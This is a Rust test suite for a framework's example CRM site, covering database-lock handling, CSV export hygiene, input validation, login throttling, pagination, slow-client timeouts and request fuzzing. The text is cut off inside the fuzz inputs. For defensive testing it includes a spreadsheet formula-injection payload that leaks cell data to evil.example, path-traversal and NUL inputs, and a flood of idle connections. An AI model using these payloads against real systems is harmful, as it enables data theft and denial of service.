//! Faults the site must survive without lying: a database another connection holds (a backup,
//! an open `sqlite3` shell), and client input the Lambda door cannot turn into a request.

use djambda::db::sea_orm::sqlx::{self, Connection, SqliteConnection};
use djambda::db::sea_orm::{ColumnTrait, EntityTrait, PaginatorTrait, QueryFilter, QueryOrder};
use djambda::test::{Client, TestResponse};
use example_site::crm::models::{company, contact, deal};

use crate::auth::crm_site;

/// Another process's connection to the site's SQLite file, holding a lock until dropped.
struct Holder(SqliteConnection);

impl Holder {
    /// A reader in the middle of a transaction (what `.backup` or an idle `sqlite3` shell after
    /// a SELECT holds): it keeps every writer from committing in a rollback-journal mode.
    async fn reader(url: &str) -> Holder {
        let mut conn = SqliteConnection::connect(url).await.expect("a second connection");
        sqlx::query("BEGIN").execute(&mut conn).await.expect("BEGIN");
        sqlx::query("SELECT count(*) FROM company").fetch_one(&mut conn).await.expect("a read");
        Holder(conn)
    }

    /// A writer that has taken the write lock and not committed.
    async fn writer(url: &str) -> Holder {
        let mut conn = SqliteConnection::connect(url).await.expect("a second connection");
        sqlx::query("BEGIN IMMEDIATE").execute(&mut conn).await.expect("BEGIN IMMEDIATE");
        Holder(conn)
    }

    async fn release(mut self) {
        sqlx::query("ROLLBACK").execute(&mut self.0).await.expect("ROLLBACK");
        self.0.close().await.expect("close");
    }
}

/// The site on its own copy of the demo database, and that copy's URL.
fn site_and_url(tag: &str, env: &[(&str, &str)]) -> (djambda::Site, String) {
    let site = crm_site(tag, env);
    let url = site.database().url().to_owned();
    (site, url)
}

async fn logged_in(site: &djambda::Site) -> Client {
    let mut client = Client::new(site.clone());
    assert!(client.login("demo", "demo").await, "the demo user logs in");
    client
}

async fn companies_named(site: &djambda::Site, name: &str) -> u64 {
    let db = site.database().connection().await.expect("the database");
    company::Entity::find().filter(company::Column::Name.eq(name)).count(&db).await.expect("a count")
}

async fn create_company(client: &mut Client, name: &str, slug: &str) -> TestResponse {
    client.post_form("/companies/new/", &[("name", name), ("slug", slug), ("city", "Oslo")]).await
}

/// Uploads `csv` through the CRM's import form, for the company with id 2.
async fn import_contacts(client: &mut Client, csv: &[u8]) -> TestResponse {
    let boundary = "reliability-import";
    let mut body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"company_id\"\r\n\r\n2\r\n\
         --{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"c.csv\"\r\n\
         Content-Type: text/csv\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(csv);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    let content_type = format!("multipart/form-data; boundary={boundary}");
    client.send(http::Method::POST, "/contacts/import/", Some(&content_type), body.into()).await
}

/// A 503 that says the database was busy, asks to be retried, and claims nothing.
#[track_caller]
fn assert_has(resp: &TestResponse, needle: &str) {
    let text = resp.text();
    assert!(text.contains(needle), "no {needle:?} in the page:\n{}", &text[..text.len().min(3000)]);
}

fn assert_busy(resp: &TestResponse, what: &str) {
    assert_eq!(resp.status(), 503, "{what}: {}", resp.text());
    assert_eq!(resp.header("retry-after"), Some("5"), "{what}: a 503 says when to retry");
    assert!(resp.location().is_none(), "{what}: no redirect to an object that was not saved");
}

#[tokio::test]
async fn a_commit_held_off_by_a_reader_is_a_503_and_nothing_is_claimed() {
    // A rollback journal, as the site would have had before WAL became the default (or by
    // choice, on a network filesystem): the reader keeps the commit from happening.
    let (site, url) =
        site_and_url("held-reader-delete", &[("SQLITE_JOURNAL_MODE", "delete"), ("SQLITE_BUSY_TIMEOUT", "0.2")]);
    let mut client = logged_in(&site).await;

    let holder = Holder::reader(&url).await;
    let resp = create_company(&mut client, "Held Off Ltd", "held-off").await;
    assert_busy(&resp, "a create whose commit the reader holds off");
    holder.release().await;
    assert_eq!(companies_named(&site, "Held Off Ltd").await, 0, "nothing half-written");

    // The edit of an existing row: the same.
    let holder = Holder::reader(&url).await;
    let resp = client
        .post_form("/companies/acme-logistics/edit/", &[("name", "Acme (held)"), ("slug", "acme-logistics")])
        .await;
    assert_busy(&resp, "an edit whose commit the reader holds off");
    holder.release().await;
    assert_eq!(companies_named(&site, "Acme (held)").await, 0);

    // Once the reader is gone the same request is served, and the row is there.
    let resp = create_company(&mut client, "Held Off Ltd", "held-off").await;
    assert_eq!(resp.status(), 302, "{}", resp.text());
    assert_eq!(resp.location(), Some("/companies/held-off/"));
    assert_eq!(companies_named(&site, "Held Off Ltd").await, 1);
    assert_eq!(client.get("/companies/held-off/").await.status(), 200);
}

#[tokio::test]
async fn by_default_a_reader_does_not_stall_a_save() {
    let (site, url) = site_and_url("held-reader-wal", &[("SQLITE_BUSY_TIMEOUT", "0.2")]);
    let mut client = logged_in(&site).await;
    let holder = Holder::reader(&url).await;
    let resp = create_company(&mut client, "Written Past A Reader", "past-a-reader").await;
    assert_eq!(resp.status(), 302, "WAL lets the writer commit beside a reader: {}", resp.text());
    // Seen while the reader still holds its (older) snapshot: the commit is really there.
    assert_eq!(companies_named(&site, "Written Past A Reader").await, 1);
    holder.release().await;
    let mode: (String,) = sqlx::query_as("PRAGMA journal_mode")
        .fetch_one(&mut SqliteConnection::connect(&url).await.unwrap())
        .await
        .unwrap();
    assert_eq!(mode.0, "wal", "the site opened its file in WAL mode");
}

#[tokio::test]
async fn a_write_lock_held_elsewhere_is_a_503_for_every_kind_of_write() {
    let (site, url) = site_and_url("held-writer", &[("SQLITE_BUSY_TIMEOUT", "0.2")]);
    let mut client = logged_in(&site).await;
    let contacts_before = {
        let db = site.database().connection().await.unwrap();
        contact::Entity::find().count(&db).await.unwrap()
    };

    let holder = Holder::writer(&url).await;
    assert_busy(&create_company(&mut client, "Locked Out Ltd", "locked-out").await, "a create");
    assert_busy(&client.post_form("/contacts/8/delete/", &[]).await, "a delete");
    let import = import_contacts(&mut client, b"first_name,last_name,email\nIngrid,Import,ingrid@example.com\n").await;
    assert_busy(&import, "an import");
    // A login writes last_login: busy too, not a 500 and not a session.
    let mut visitor = Client::new(site.clone());
    let login = visitor.post_form("/accounts/login/", &[("username", "demo"), ("password", "demo")]).await;
    assert_busy(&login, "a login");
    holder.release().await;

    let db = site.database().connection().await.unwrap();
    assert_eq!(contact::Entity::find().count(&db).await.unwrap(), contacts_before, "no contact deleted or imported");
    assert_eq!(companies_named(&site, "Locked Out Ltd").await, 0);
    assert_eq!(client.post_form("/contacts/8/delete/", &[]).await.status(), 302, "served once the lock is gone");
}

#[tokio::test]
async fn the_csv_export_neutralises_formulas_and_the_import_refuses_what_is_not_utf8() {
    let site = crm_site("csv-hygiene", &[]);
    let mut client = logged_in(&site).await;
    let resp = client
        .post_form(
            "/contacts/new/",
            &[
                ("first_name", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"),
                ("last_name", "@SUM(1+1)"),
                ("company_id", "1"),
                ("email", "formula@example.com"),
                ("title", "-2+3"),
                ("phone", "+4712345678"),
            ],
        )
        .await;
    assert_eq!(resp.status(), 302, "{}", resp.text());
    let csv = client.get("/contacts/export.csv").await;
    assert_eq!(csv.status(), 200);
    let rows = djambda::http::csv::read(csv.bytes()).expect("the export reads back");
    let row = rows.iter().find(|r| r.cells.get(4).is_some_and(|e| e == "formula@example.com")).expect("the row");
    assert_eq!(row.cells[1], "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")");
    assert_eq!(row.cells[2], "'@SUM(1+1)");
    assert_eq!(row.cells[3], "'-2+3");
    assert_eq!(row.cells[5], "+4712345678", "a phone number is a number, not a formula");
    for r in &rows {
        for cell in &r.cells {
            assert!(!cell.starts_with(['=', '@']), "line {}: {cell:?} would run as a formula", r.line);
        }
    }

    // A Latin-1 file (a spreadsheet's "CSV" export on Windows): a form error naming the line,
    // nothing imported, nothing changed to U+FFFD.
    let before = {
        let db = site.database().connection().await.unwrap();
        contact::Entity::find().count(&db).await.unwrap()
    };
    let resp = import_contacts(
        &mut client,
        b"first_name,last_name,email\nAda,Lovelace,ada@example.com\nJos\xe9,Mart\xedn,jose@example.com\n",
    )
    .await;
    assert_eq!(resp.status(), 200, "the form again: {}", resp.text());
    assert!(resp.text().contains("Line 3:") && resp.text().contains("not UTF-8"), "{}", resp.text());
    let db = site.database().connection().await.unwrap();
    assert_eq!(contact::Entity::find().count(&db).await.unwrap(), before, "nothing imported");
}

#[tokio::test]
async fn text_with_nul_and_amounts_past_the_column_are_form_errors() {
    let site = crm_site("input-hygiene", &[]);
    let mut client = logged_in(&site).await;
    let resp = client
        .post_form("/companies/new/", &[("name", "Null\0Byte Ltd"), ("slug", "null-byte"), ("city", "Oslo")])
        .await;
    assert_eq!(resp.status(), 200, "the form again");
    assert!(resp.text().contains("Null characters are not allowed."), "{}", resp.text());
    assert_eq!(companies_named(&site, "Null\0Byte Ltd").await, 0);

    // deal.amount is numeric(12, 2): ten digits before the point at most.
    for (amount, message) in [
        ("99999999999999999999", "Ensure that there are no more than 12 digits in total."),
        ("12345678901.5", "Ensure that there are no more than 10 digits before the decimal point."),
        ("1.005", "Ensure that there are no more than 2 decimal places."),
    ] {
        let resp = client
            .post_form(
                "/deals/new/",
                &[
                    ("title", "Too big"),
                    ("company_id", "1"),
                    ("stage", "lead"),
                    ("amount", amount),
                    ("expected_close", "2027-05-01"),
                ],
            )
            .await;
        assert_eq!(resp.status(), 200, "{amount}: the form again");
        assert!(resp.text().contains(message), "{amount}: {message}\n{}", resp.text());
    }
    let resp = client
        .post_form(
            "/deals/new/",
            &[
                ("title", "Just fits"),
                ("company_id", "1"),
                ("stage", "lead"),
                ("amount", "-9999999999.99"),
                ("expected_close", "2027-05-01"),
            ],
        )
        .await;
    assert_eq!(resp.status(), 302, "the largest amount the column holds: {}", resp.text());
}

#[tokio::test]
async fn a_stranger_guessing_a_password_locks_out_only_their_own_address() {
    use djambda::auth::models::login_failure;
    use djambda::db::sea_orm::{ActiveModelTrait, ActiveValue, IntoActiveModel};
    let site = crm_site("throttle-by-address", &[("LOGIN_FAILURE_LIMIT", "3")]);
    let stranger: std::net::SocketAddr = "203.0.113.9:50000".parse().unwrap();
    let owner: std::net::SocketAddr = "198.51.100.7:40000".parse().unwrap();
    let mut guesser = Client::new(site.clone()).with_client_addr(stranger);
    for attempt in 1..=3 {
        let resp = guesser.post_form("/accounts/login/", &[("username", "demo"), ("password", "guess")]).await;
        assert_eq!(resp.status(), 200, "attempt {attempt}");
    }
    let held = guesser.post_form("/accounts/login/", &[("username", "demo"), ("password", "demo")]).await;
    assert_eq!(held.status(), 429, "the guesser's address waits, even with the right password");
    let mut user = Client::new(site.clone()).with_client_addr(owner);
    assert!(user.login("demo", "demo").await, "the user, from their own address, is not locked out");

    // Every unknown username tried leaves a row; the schedule (and the command) removes the
    // ones a day old and keeps the rest.
    for name in ["nobody-1", "nobody-2"] {
        guesser.post_form("/accounts/login/", &[("username", name), ("password", "x")]).await;
    }
    let db = site.database().connection().await.unwrap();
    let rows = login_failure::Entity::find().all(&db).await.unwrap();
    assert_eq!(rows.len(), 3, "demo and the two unknown names, from the stranger: {rows:?}");
    let old = rows.iter().find(|r| r.username.ends_with("nobody-1")).unwrap().clone();
    let mut stale = old.into_active_model();
    stale.last_failure =
        ActiveValue::Set(djambda::db::sea_orm::prelude::ChronoUtc::now() - chrono::TimeDelta::hours(25));
    stale.update(&db).await.unwrap();
    assert!(site.events().task_names().any(|t| t == "prune-login-failures"), "the auth app schedules the pruning");
    let out = std::process::Command::new(crate::manage_bin())
        .arg("clearloginfailures")
        .env("DATABASE_URL", site.database().url())
        .env("SECRET_KEY", crate::SECRET_KEY)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "Deleted 1 old failed-login count(s).");
    let left: Vec<String> =
        login_failure::Entity::find().all(&db).await.unwrap().into_iter().map(|r| r.username).collect();
    assert_eq!(left.len(), 2, "{left:?}");
    assert!(!left.iter().any(|u| u.ends_with("nobody-1")), "{left:?}");
}

/// Runs `sql` (the test's own text, no user input) on the SQLite database at `url`, on a
/// connection of the test's own.
async fn sql_on(url: &str, sql: &str) {
    let mut conn = SqliteConnection::connect(url).await.expect("a connection of the test's own");
    let query = sqlx::query(sqlx::AssertSqlSafe(sql.to_owned()));
    query.execute(&mut conn).await.unwrap_or_else(|e| panic!("{sql}: {e}"));
    conn.close().await.expect("close");
}

/// A copy of the demo database with `n` more contacts (titles 90 characters long, so a CSV of
/// them is some 190 bytes a row), added in one statement.
pub(crate) async fn many_contacts_db(tag: &str, n: u32) -> String {
    let url = crate::fresh_demo_db(tag);
    sql_on(
        &url,
        &format!(
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < {n}) \
         INSERT INTO contact (company_id, first_name, last_name, title, email, phone) \
         SELECT 1 + i % 3, 'Bulk', printf('Contact %06d', i), printf('%090d', i), printf('bulk%d@example.com', i), '' \
         FROM n"
        ),
    )
    .await;
    url
}

#[tokio::test]
async fn forty_thousand_contacts_through_the_api_and_the_export() {
    let url = many_contacts_db("forty-thousand", 40_000).await;
    let site = crm_site_on(&url);
    let db = site.database().connection().await.unwrap();
    let total = contact::Entity::find().count(&db).await.unwrap();
    assert!(total > 40_000);
    let mut client = logged_in(&site).await;

    let first = client.get("/api/contacts/").await;
    assert_eq!(first.status(), 200, "{}", first.text());
    let page: serde_json::Value = first.json().unwrap();
    assert_eq!(page["count"], total, "{}", &first.text()[..200]);
    assert_eq!(page["results"].as_array().unwrap().len(), 100, "a page, not the table");
    assert_eq!(page["next"], "/api/contacts/?page=2");
    assert!(page["previous"].is_null());
    assert!(first.bytes().len() < 100_000, "one page is small: {} bytes", first.bytes().len());
    let last = total.div_ceil(100);
    let tail: serde_json::Value = client.get(&format!("/api/contacts/?page={last}")).await.json().unwrap();
    assert_eq!(tail["results"].as_array().unwrap().len() as u64, total - (last - 1) * 100);
    assert!(tail["next"].is_null());
    assert!(tail["results"][0]["company"]["slug"].is_string(), "with its company: {}", tail["results"][0]);
    assert_eq!(client.get(&format!("/api/contacts/?page={}", last + 1)).await.status(), 404);
    assert_eq!(client.get("/api/contacts/?page=x").await.status(), 404);

    let export = client.get("/contacts/export.csv").await;
    assert_eq!(export.status(), 200, "{}", &export.text()[..export.text().len().min(500)]);
    assert!(export.is_streaming(), "the export is sent a batch at a time, never whole in memory");
    let rows = djambda::http::csv::read(export.bytes()).expect("the export reads back");
    assert_eq!(rows.len() as u64, total + 1, "the header and every contact");
    assert!(rows.iter().skip(1).all(|r| !r.cells[6].is_empty()), "every contact with its company");
    let mut ids: Vec<&str> = rows.iter().skip(1).map(|r| r.cells[0].as_str()).collect();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len() as u64, total, "each contact once across the batches");
    let names: Vec<&str> = rows.iter().skip(1).map(|r| r.cells[2].as_str()).collect();
    assert!(names.windows(2).all(|w| w[0] <= w[1]), "in last-name order across the batches");

    // Through runserver the same bytes go out chunked, as they are written.
    let (_server, addr) = tests::process::spawn_runserver(
        crate::manage_bin(),
        &[("DATABASE_URL", url.as_str()), ("SECRET_KEY", crate::SECRET_KEY), ("ALLOWED_HOSTS", "*")],
    );
    let cookie = client.cookie_header();
    let served = tests::http1::request(&addr, "GET", "/contacts/export.csv", &[("Cookie", &cookie)], b"").unwrap();
    assert_eq!(served.status, 200);
    assert_eq!(served.header("transfer-encoding"), Some("chunked"));
    assert_eq!(served.header("content-length"), None);
    assert!(served.body == export.bytes().as_ref(), "runserver's export is byte for byte the test client's");
}

/// The example site on the database at `url`.
#[tokio::test]
async fn a_company_with_thousands_of_contacts_and_deals_is_still_a_small_page() {
    let url = many_contacts_db("big-company", 3_000).await;
    sql_on(
        &url,
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 400) \
         INSERT INTO deal (company_id, title, stage, amount, expected_close) \
         SELECT 2, printf('Bulk deal %04d', i), 'lead', i, '2027-01-01' FROM n",
    )
    .await;
    let site = crm_site_on(&url);
    let db = site.database().connection().await.unwrap();
    let company = company::Entity::find_by_id(2).one(&db).await.unwrap().unwrap();
    let contacts = contact::Entity::find().filter(contact::Column::CompanyId.eq(2)).count(&db).await.unwrap();
    let deals = deal::Entity::find().filter(deal::Column::CompanyId.eq(2)).count(&db).await.unwrap();
    assert!(contacts > 1_000 && deals > 400, "{contacts} contacts, {deals} deals");
    let mut client = logged_in(&site).await;

    let page = client.get(&format!("/companies/{}/", company.slug)).await;
    assert_eq!(page.status(), 200);
    assert!(page.bytes().len() < 30_000, "the company page is {} bytes", page.bytes().len());
    let all_contacts = format!("/contacts/?company={}", company.slug);
    let all_deals = format!("/deals/?company={}", company.slug);
    assert_has(&page, &format!("All {contacts} contacts"));
    assert_has(&page, &format!("All {deals} deals"));
    assert_has(&page, &all_contacts);
    assert_has(&page, &all_deals);

    // The full lists, narrowed to the company, page by page; the pager keeps the filters.
    let list = client.get(&all_contacts).await;
    assert_eq!(list.status(), 200);
    assert_has(&list, &format!("({contacts})"));
    assert_has(&list, &format!("?company={}&amp;page=2", company.slug));
    let other = client.get("/contacts/?company=nobody-has-this").await;
    assert_eq!(other.status(), 404, "an unknown company is a 404, not every contact");
    let deal_page = client.get(&format!("{all_deals}&sort=-amount&page=2")).await;
    assert_eq!(deal_page.status(), 200);
    assert!(deal_page.bytes().len() < 40_000, "a deal page is {} bytes", deal_page.bytes().len());
    assert_has(&deal_page, &format!("Page 2 of {}", deals.div_ceil(25)));
    assert_has(&deal_page, &format!("company={}&amp;sort=-amount&amp;page=3", company.slug));
    // Largest first: page 2 holds the 26th to the 50th largest.
    let ordered: Vec<String> = deal::Entity::find()
        .filter(deal::Column::CompanyId.eq(2))
        .order_by_desc(deal::Column::Amount)
        .order_by_asc(deal::Column::Id)
        .all(&db)
        .await
        .unwrap()
        .into_iter()
        .map(|d| d.title)
        .collect();
    assert_has(&deal_page, &format!(">{}<", ordered[25]));
    assert_has(&deal_page, &format!(">{}<", ordered[49]));
    for title in [&ordered[24], &ordered[50]] {
        assert!(!deal_page.text().contains(&format!(">{title}<")), "{title} is on another page");
    }
    let every_deal = client.get("/deals/?page=last").await;
    assert_eq!(every_deal.status(), 200);
    assert_eq!(client.get(&format!("/deals/?page={}", deals.div_ceil(25) + 99)).await.status(), 404);
}

#[tokio::test]
async fn a_contact_with_hundreds_of_notes_shows_them_a_page_at_a_time() {
    let url = crate::fresh_demo_db("many-notes");
    sql_on(
        &url,
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 300) \
         INSERT INTO note (contact_id, deal_id, body, created_at, updated_at) \
         SELECT 1, NULL, printf('Bulk note %03d %s', i, printf('%0200d', 0)), \
                printf('2026-01-01T00:%02d:%02d+00:00', i / 60, i % 60), '2026-01-01T00:00:00+00:00' FROM n",
    )
    .await;
    let site = crm_site_on(&url);
    let mut client = logged_in(&site).await;
    let page = client.get("/contacts/1/").await;
    assert_eq!(page.status(), 200);
    assert!(page.bytes().len() < 30_000, "the contact page is {} bytes", page.bytes().len());
    assert_has(&page, "Bulk note 300");
    assert!(!page.text().contains("Bulk note 001"), "the oldest notes are on a later page");
    assert_has(&page, "?page=2");
    let last = client.get("/contacts/1/?page=last").await;
    assert_has(&last, "Bulk note 001");
    assert_eq!(client.get("/contacts/1/?page=999").await.status(), 404);
}

#[tokio::test]
async fn an_export_whose_first_query_fails_is_an_error_page_not_a_cut_off_200() {
    let (site, url) = site_and_url("export-fails", &[]);
    let mut client = logged_in(&site).await;
    sql_on(&url, "ALTER TABLE contact RENAME TO contact_elsewhere").await;
    let resp = client.get("/contacts/export.csv").await;
    assert_eq!(resp.status(), 500, "the failure comes before the download starts");
    assert!(!resp.is_streaming() && !resp.text().contains("first_name"), "{}", resp.text());
}

#[tokio::test]
async fn the_pager_keeps_a_search_with_an_ampersand() {
    let url = crate::fresh_demo_db("ampersand-search");
    sql_on(
        &url,
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 25) \
         INSERT INTO company (name, slug, industry, city, website) \
         SELECT printf('Smith & Sons %02d', i), printf('smith-sons-%02d', i), '', '', '' FROM n",
    )
    .await;
    let site = crm_site_on(&url);
    let mut client = logged_in(&site).await;
    let first = client.get("/companies/?q=%26+Sons").await;
    assert_has(&first, "Page 1 of 2");
    // The link must carry the search encoded: `?q=& Sons&page=2` would search for nothing.
    assert_has(&first, "?q=%26+Sons&amp;page=2");
    let second = client.get("/companies/?q=%26+Sons&page=2").await;
    assert_has(&second, "Smith &amp; Sons 25");
}

#[tokio::test]
async fn foreign_keys_past_the_select_limit_are_id_inputs_checked_against_the_table() {
    let limit = djambda::forms::SELECT_LIMIT;
    let companies = limit + 100;
    let url = many_contacts_db("many-companies", companies as u32).await;
    sql_on(
        &url,
        &format!(
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < {companies}) \
         INSERT INTO company (name, slug, industry, city, website) \
         SELECT printf('Bulk company %04d', i), printf('bulk-%04d', i), '', '', '' FROM n"
        ),
    )
    .await;
    let site = crm_site_on(&url);
    let db = site.database().connection().await.unwrap();
    let acme = company::Entity::find_by_id(2).one(&db).await.unwrap().unwrap();
    let mut client = logged_in(&site).await;

    let form = client.get("/contacts/new/?company_id=2").await;
    assert_eq!(form.status(), 200);
    assert!(form.bytes().len() < 20_000, "the form is {} bytes", form.bytes().len());
    assert_has(&form, r#"<input type="text" name="company_id" id="id_company_id" value="2" required>"#);
    assert!(!form.text().contains("Bulk company"), "no company is listed");

    // An id that names no company is a form error, not a 500 from the foreign key.
    let contact =
        |company| [("first_name", "Ida"), ("last_name", "Raw"), ("company_id", company), ("email", "ida@example.com")];
    let wrong = client.post_form("/contacts/new/", &contact("999999")).await;
    assert_ne!(wrong.status(), 302);
    assert_has(&wrong, "No company has the id 999999.");
    let not_a_number = client.post_form("/contacts/new/", &contact("acme")).await;
    assert_ne!(not_a_number.status(), 302, "{}", not_a_number.text());
    let saved = client.post_form("/contacts/new/", &contact("2")).await;
    assert_eq!(saved.status(), 302, "{}", saved.text());
    let ida =
        contact::Entity::find().filter(contact::Column::Email.eq("ida@example.com")).one(&db).await.unwrap().unwrap();
    assert_eq!(ida.company_id, 2);

    // Editing shows which company it is now.
    let edit = client.get(&format!("/contacts/{}/edit/", ida.id)).await;
    assert_has(&edit, &format!("Now: {} (id 2).", acme.name));

    // The note form's contact (the site's own `related` choices) is bounded the same way.
    let note = client.get("/notes/new/").await;
    assert_eq!(note.status(), 200);
    assert!(note.bytes().len() < 20_000, "the note form is {} bytes", note.bytes().len());
    assert_has(&note, r#"<input type="text" name="contact_id""#);
    let noted = client.post_form("/notes/new/", &[("body", "Raw id"), ("contact_id", &ida.id.to_string())]).await;
    assert_eq!(noted.status(), 302, "{}", noted.text());
    let padded =
        client.post_form("/notes/new/", &[("body", "Padded id"), ("contact_id", &format!("0{}", ida.id))]).await;
    assert_eq!(padded.status(), 302, "`0{}` is the id {}: {}", ida.id, ida.id, padded.text());
    let bad = client.post_form("/notes/new/", &[("body", "Raw id"), ("contact_id", "0")]).await;
    assert_has(&bad, "No about contact has the id 0.");

    // And the import form's company.
    let import = client.get("/contacts/import/").await;
    assert!(import.bytes().len() < 20_000, "the import form is {} bytes", import.bytes().len());
    assert_has(&import, r#"<input type="text" name="company_id""#);
}

fn crm_site_on(url: &str) -> djambda::Site {
    example_site::site_with_settings(crate::example_settings_with(&[("DATABASE_URL", url)])).expect("the example site")
}

/// The server end of `conn` closes within `within`: a read sees EOF (or a reset), not data.
fn closed_within(conn: &mut std::net::TcpStream, within: std::time::Duration) -> bool {
    use std::io::Read;
    conn.set_read_timeout(Some(within)).unwrap();
    let mut buf = [0u8; 512];
    loop {
        match conn.read(&mut buf) {
            Ok(0) => return true,
            // A 408 or the like before the close is fine; keep reading to the end.
            Ok(_) => continue,
            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => return true,
            Err(_) => return false,
        }
    }
}

#[test]
fn idle_and_slow_clients_lose_their_place_and_a_fast_one_is_served() {
    use std::io::{Read, Write};
    use std::net::TcpStream;
    use std::time::{Duration, Instant};
    let env = crate::with_demo_db(&[
        ("ALLOWED_HOSTS", "127.0.0.1"),
        ("SERVER_HEADER_TIMEOUT", "1"),
        ("SERVER_BODY_TIMEOUT", "1"),
        ("SERVER_MAX_CONNECTIONS", "20"),
    ]);
    let (mut server, addr) = tests::process::spawn_runserver(crate::manage_bin(), &env);
    // Five times the cap in connections that send nothing, and one that never ends its headers.
    let mut idle: Vec<TcpStream> = (0..100).map(|_| TcpStream::connect(&addr).expect("connect")).collect();
    let mut slow_head = TcpStream::connect(&addr).unwrap();
    slow_head.write_all(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ").unwrap();

    // A client behind them all is served once the idle ones before it have timed out, a
    // round of 20 a second: not never, as without the timeouts.
    let started = Instant::now();
    let resp = tests::http1::request(&addr, "GET", "/accounts/login/", &[], b"").expect("the fast client is answered");
    assert_eq!(resp.status, 200);
    let waited = started.elapsed();
    assert!(waited < Duration::from_secs(30), "served after {waited:?}");
    println!("a fast client behind 101 idle connections (cap 20, 1 s timeout) was served after {waited:?}");

    for (i, conn) in idle.iter_mut().enumerate() {
        assert!(closed_within(conn, Duration::from_secs(5)), "idle connection {i} was never closed");
    }
    assert!(closed_within(&mut slow_head, Duration::from_secs(5)), "the slow header was never cut off");

    // A body that stops halfway: 408 once SERVER_BODY_TIMEOUT passes, and the connection closes.
    let mut slow_body = TcpStream::connect(&addr).unwrap();
    slow_body
        .write_all(
            b"POST /accounts/login/ HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\
              Content-Length: 100\r\n\r\nusername=de",
        )
        .unwrap();
    slow_body.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let mut answer = Vec::new();
    let _ = slow_body.read_to_end(&mut answer);
    let answer = String::from_utf8_lossy(&answer);
    assert!(answer.starts_with("HTTP/1.1 408"), "a trickling body is refused in time: {answer:?}");

    assert_eq!(tests::http1::request(&addr, "GET", "/accounts/login/", &[], b"").unwrap().status, 200);
    assert!(server.child.try_wait().unwrap().is_none(), "the server is still running");
    let log: Vec<String> = server.stderr.try_iter().collect();
    assert!(!log.iter().any(|l| l.contains("Too many open files")), "{log:?}");
}

#[tokio::test]
async fn a_replaced_or_vanished_sqlite_file_is_noticed_without_a_restart() {
    let (site, url) = site_and_url("replaced-file", &[]);
    let path = std::path::PathBuf::from(url.trim_start_matches("sqlite://").trim_end_matches("?mode=rwc"));
    let mut client = logged_in(&site).await;
    assert!(client.get("/companies/").await.text().contains("Acme Logistics"));

    // A restore: another copy, with a company of its own, renamed over the file.
    let other = many_contacts_db("replaced-file-other", 1).await;
    let other_path = other.trim_start_matches("sqlite://").trim_end_matches("?mode=rwc").to_owned();
    let mut conn = SqliteConnection::connect(&other).await.unwrap();
    sqlx::query("UPDATE company SET name = 'Restored From Backup' WHERE slug = 'acme-logistics'")
        .execute(&mut conn)
        .await
        .unwrap();
    conn.close().await.unwrap();
    std::fs::rename(&other_path, &path).expect("replace the file");
    tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
    let page = client.get("/companies/").await;
    assert_eq!(page.status(), 200, "{}", page.text());
    assert!(page.text().contains("Restored From Backup"), "the new file is read, not the old one");
    let resp = create_company(&mut client, "After The Restore", "after-restore").await;
    assert_eq!(resp.status(), 302, "{}", resp.text());
    let mut check = SqliteConnection::connect(&url).await.unwrap();
    let (n,): (i64,) = sqlx::query_as("SELECT count(*) FROM company WHERE slug = 'after-restore'")
        .fetch_one(&mut check)
        .await
        .unwrap();
    check.close().await.unwrap();
    assert_eq!(n, 1, "the write went into the file now at the path");

    // Gone: a 503 (not a new empty database), then normal service once it is back.
    let aside = path.with_extension("aside");
    std::fs::rename(&path, &aside).unwrap();
    tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
    assert_eq!(client.get("/companies/").await.status(), 503);
    assert!(!path.exists(), "no empty database was made in its place");
    std::fs::rename(&aside, &path).unwrap();
    let back = client.get("/companies/").await;
    assert_eq!(back.status(), 200, "{}", back.text());
    assert!(back.text().contains("After The Restore"));
}

/// xorshift64*: a tiny seeded generator, so a failure replays with its seed.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn pick(&mut self, list: &[&'static str]) -> &'static str {
        list[(self.next() % list.len() as u64) as usize]
    }
}

/// A seeded stream of hostile requests at every route of the example site, logged in: odd
/// path parameters, query strings, form bodies, multipart bodies with broken boundaries, JSON
/// garbage, tampered cookies. None may be a server error (a 500 is a panic or an unhandled
/// case). DJAMBDA_FUZZ_RUNS and DJAMBDA_FUZZ_SEED run it longer or elsewhere.
#[tokio::test]
async fn hostile_requests_at_every_route_are_never_server_errors() {
    let site = crm_site("fuzz-routes", &[]);
    let seed: u64 = std::env::var("DJAMBDA_FUZZ_SEED").ok().and_then(|s| s.parse().ok()).unwrap_or(0xd1a_0b5e);
    let runs: usize = std::env::var("DJAMBDA_FUZZ_RUNS").ok().and_then(|s| s.parse().ok()).unwrap_or(1000);
    let mut rng = Rng(seed);
    const PIECES: &[&str] = &[
        "1",
        "0",
        "-1",
        "99999999999999999999",
        "acme-logistics",
        "new",
        "x",
        "",
        " ",
        "%00",
        "\u{0}",
        "é",
        "☃",
        "<b>",
        "\"",
        "'",
        "=SUM(1)",
        "../",
        "..%2F",
        "%",
        "%zz",
        "1e9",
        "1.5",
        "2027-02-30",
